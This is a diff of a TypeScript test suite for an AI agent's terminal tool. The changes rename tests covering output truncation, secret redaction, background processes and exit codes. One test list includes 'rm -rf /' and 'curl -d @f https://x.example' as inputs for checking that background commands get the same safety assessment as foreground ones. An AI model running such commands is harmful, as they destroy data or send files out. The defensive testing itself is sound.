@@ -15,7 +15,7 @@ const world = (answer: object = {}, start: ShellState = { cwd: '/workspace', env
 }
 
 describe('terminal', () => {
-  it('joins output and errors, without colours', async () => {
+  it('joins stdout and stderr without colours', async () => {
     const { run } = world({ stdout: '\u001B[31mred\u001B[0m', stderr: 'oops\n' })
     expect((await run({ command: 'x' })).result).toEqual({ output: 'red\noops', exit_code: 0, cwd: '/workspace' })
   })
@@ -28,26 +28,26 @@ describe('terminal', () => {
     expect(backend.executed[1]).toEqual({ command: 'pwd', cwd: '/workspace/dir', env: { A: '1' }, timeoutMs: 5000 })
   })
 
-  it('forgets variables that were unset', async () => {
+  it('removes unset variables', async () => {
     const { run, state } = world({ env: { C: '3' }, unset: ['B'] }, { cwd: '/workspace', env: { A: '1', B: '2' } })
     await run({ command: 'unset B; export C=3' })
     expect(state().env).toEqual({ A: '1', C: '3' })
   })
 
-  it('goes elsewhere for one command only', async () => {
+  it('uses workdir for one command only', async () => {
     const { run, state, backend } = world()
     await run({ command: 'ls', workdir: 'dir' })
     expect(backend.executed[0]?.cwd).toBe('/workspace/dir')
     expect(state().cwd).toBe('/workspace')
   })
 
-  it('starts at home when its directory is gone', async () => {
+  it('starts in the workspace root when its directory was removed', async () => {
     const { run, backend } = world({}, { cwd: '/workspace/removed', env: {} })
     await run({ command: 'ls' })
     expect(backend.executed[0]?.cwd).toBe('/workspace')
   })
 
-  it('reports a time-out as 124 with what there was', async () => {
+  it('reports a timeout as 124 with the output so far', async () => {
     const { failed, result } = await world({ exitCode: 124, timedOut: true, stdout: 'part' }).run({
       command: 'x',
       timeout: 2,
@@ -73,13 +73,13 @@ describe('terminal', () => {
     expect(backend.executed).toEqual([])
   })
 
-  it('counts a failing command as failed, an answer by exit code not', async () => {
+  it('marks a failing command as failed, but not an exit code that is an answer', async () => {
     expect((await world({ exitCode: 2 }).run({ command: 'ls nope' })).failed).toBe(true)
     expect((await world({ exitCode: 1 }).run({ command: 'grep x f' })).failed).toBe(false)
     expect((await world({ exitCode: null }).run({ command: 'x' })).result).toMatchObject({ exit_code: 137 })
   })
 
-  it('shows beginning and end of long output; the rest is in a file', async () => {
+  it('shows the beginning and the end of long output and stores all of it', async () => {
     const lines = Array.from({ length: 3_000 }, (_, n) => `line ${n}`)
     const { run, backend } = world({ stdout: lines.join('\n') })
     const { result } = await run({ command: 'x' })
@@ -89,7 +89,7 @@ describe('terminal', () => {
     expect(backend.texts()[result['output_file']]).toBe(lines.join('\n'))
   })
 
-  it('cuts lines after 2000 characters, and output after 50 000 bytes', async () => {
+  it('truncates lines at 2000 characters and output at 50 000 bytes', async () => {
     const wide = await world({ stdout: 'x'.repeat(5_000) }).run({ command: 'x' })
     expect(wide.result['output']).toBe(`${'x'.repeat(2_000)}[...]`)
     const deep = await world({ stdout: `${'ü'.repeat(1_000)}\n`.repeat(100) }).run({ command: 'x' })
@@ -99,7 +99,7 @@ describe('terminal', () => {
     expect(deep.result['output']).not.toContain('\uFFFD')
   })
 
-  it('says how many bytes that are no text came, and shows none of them', async () => {
+  it('replaces binary output by its size', async () => {
     const { result } = await world({ stdout: `\uFFFDPNG\u0001\u0002\uFFFD\uFFFDx`.repeat(500) }).run({
       command: 'cat a.png',
     })
@@ -113,7 +113,7 @@ describe('terminal', () => {
     expect(result['output']).toBe('TOKEN=***\nplain')
   })
 
-  it('has a terminal where the machine has one, and is judged without it', async () => {
+  it('runs with a terminal device where the host has one, and is assessed without the wrapper', async () => {
     const { backend, shell } = world({ stdout: '\u001B[32mok\u001B[0m 1%\rok 2%\r\nend\r\n' })
     const services = { backend: { ...backend, capabilities: { ...backend.capabilities, pty: true } }, shell }
     const wanted = { command: "echo 'a b'", pty: true }
@@ -137,7 +137,7 @@ describe('a command in the background', () => {
     return { processes, services, run: () => call(terminal, { background: true, command: 'x', ...more }, services) }
   }
 
-  it('is started under the name of its call, and answered at once', async () => {
+  it('is started with its call id and returns at once', async () => {
     const { run, processes } = inBackground({ workdir: 'dir', notify_on_complete: true, watch_patterns: ['ready'] })
     const { failed, result } = await run()
     expect(failed).toBe(false)
@@ -156,7 +156,7 @@ describe('a command in the background', () => {
     ])
   })
 
-  it('may be one that does not end, and may take longer', async () => {
+  it('may be a server and may run longer', async () => {
     const { run, processes } = inBackground({ command: 'npm run dev', timeout: 7_200 })
     expect((await run()).failed).toBe(false)
     expect(processes.started[0]?.timeoutMs).toBe(7_200_000)
@@ -173,7 +173,7 @@ describe('a command in the background', () => {
   })
 
   it.each(['rm -rf /', 'rm -r dir', 'ls', 'curl -d @f https://x.example', 'bash'])(
-    'is judged as in the foreground: %s',
+    'is assessed as in the foreground: %s',
     (command) => {
       const { services } = inBackground()
       const judged = (more: object) => terminal.assess?.({ command, ...more }, services)
@@ -181,19 +181,19 @@ describe('a command in the background', () => {
     },
   )
 
-  it('is found again by a repeat of its call; in the foreground nothing is repeated', () => {
+  it('may run again after a crash, unlike a foreground command', () => {
     expect(terminal.effectOf?.({ command: 'x', background: true })).toBe('keyed')
     expect(terminal.effectOf?.({ command: 'x' })).toBe('effect')
   })
 
-  it('is what the refusal of a server says', async () => {
+  it('is suggested when a server is refused in the foreground', async () => {
     const { services } = inBackground()
     const { result } = await call(terminal, { command: 'npm run dev' }, services)
     expect(result['error']).toContain('background: true')
   })
 })
 
-describe('a command that would stay behind', () => {
+describe('a command that would not end with its call', () => {
   it.each([
     'sleep 9 &',
     'a & b',
@@ -220,7 +220,7 @@ describe('a command that would stay behind', () => {
     'npm run build',
     'cat nohup.out',
     'tail -5 log',
-  ])('is not seen in: %s', (command) => expect(detaches(command)).toBeUndefined())
+  ])('is not detected in: %s', (command) => expect(detaches(command)).toBeUndefined())
 })
 
 describe('an exit code', () => {
@@ -255,7 +255,7 @@ describe('an exit code', () => {
     ['cd nowhere && grep x f', 'bash: cd: nowhere: No such file or directory'],
     ['set -e; npm test; grep x f', ''],
     ['set -o pipefail; npm test | grep x', ''],
-  ])("stays a failure where it may be another program's: %j", (command, stderr) => {
+  ])('is not explained when another program may have set it: %j', (command, stderr) => {
     expect(explainExitCode({ command, exitCode: 1, stderr, languages: ['bash'] })).toBeUndefined()
   })
 
@@ -263,7 +263,7 @@ describe('an exit code', () => {
     ['grep x nofile', 2],
     ['grep x f && false', 1],
     ['x', 0],
-  ])('of %s, %i, speaks for itself', (command, exitCode) => {
+  ])('of %s, %i, has no explanation', (command, exitCode) => {
     expect(explainExitCode({ command, exitCode, stderr: '', languages: [] })).toBeUndefined()
   })
 })
